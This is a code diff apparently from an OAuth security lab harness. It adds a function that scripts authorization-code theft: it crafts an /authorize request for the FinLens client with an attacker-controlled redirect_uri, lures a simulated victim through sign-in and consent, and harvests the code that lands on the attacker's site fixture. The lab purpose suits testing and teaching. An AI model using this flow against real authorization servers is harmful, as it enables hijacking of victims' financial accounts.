@@ -10,12 +10,14 @@ GET /callback?code=<stolen>&state=<its own>. The goal is judged on its dashboard
 from __future__ import annotations
 
 import contextlib
+import secrets
 from html.parser import HTMLParser
 from typing import Any
-from urllib.parse import urljoin, urlsplit
+from urllib.parse import quote, urlencode, urljoin, urlsplit
 
 import requests
 
+from lab.authserver.clients import TPP_CLIENT_ID
 from lab.tpp.driver import redeem_form
 from lab.web.request_id import HEADER
 
@@ -44,6 +46,34 @@ def inject_code(ctx: AttackContext, code: str, victim_user: str, *,
     ids = fc.expect_accounts_of(ctx, page, victim_user, "the attacker's")
     ctx.succeeded(f"the attacker's FinLens account shows {len(ids)} of {victim_user}'s "
                   "accounts", {"tpp_user": own.browser.tpp_user, "accounts": ids})
+
+
+def code_lured_to_site(ctx: AttackContext, fx: fixtures.Fixtures, redirect_uri: str,
+                       site_path: str, *, built: str, missing: str, read: str
+                       ) -> dict[str, str]:
+    """An authorization request for FinLens's client_id with the attacker's `redirect_uri`,
+    followed by the lured victim (sign-in, consent), whose browser then opens the redirect;
+    returns the authorization response that reached `site_path` on the attacker's site
+    (RFC 6749 §4.1.2), with the victim's username under "victim".
+
+    built / missing / read: the story's words for the request, a miss, and the read.
+    """
+    since = fx.mark()
+    url = ctx.url("as", "/authorize") + "?" + urlencode({
+        "response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
+        "scope": fc.FINLENS_SCOPE, "state": secrets.token_urlsafe(16)})
+    ctx.step("attacker", built, url=url)
+    victim = ctx.victim("alice")
+    victim.sign_in()
+    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
+    # The browser opens the callback (and follows any redirect it gets there).
+    victim.visit(result.callback_url or "")
+    got = [r for r in fx.received(ctx, "site", since=since, path=site_path)
+           if r.query().get("code")]
+    if not got:
+        ctx.failed(missing)
+    ctx.step("attacker", read)
+    return {**got[-1].query(), "victim": victim.username}
 
 
 # --- the victim's browser, rendering what a page embeds -------------------------------------
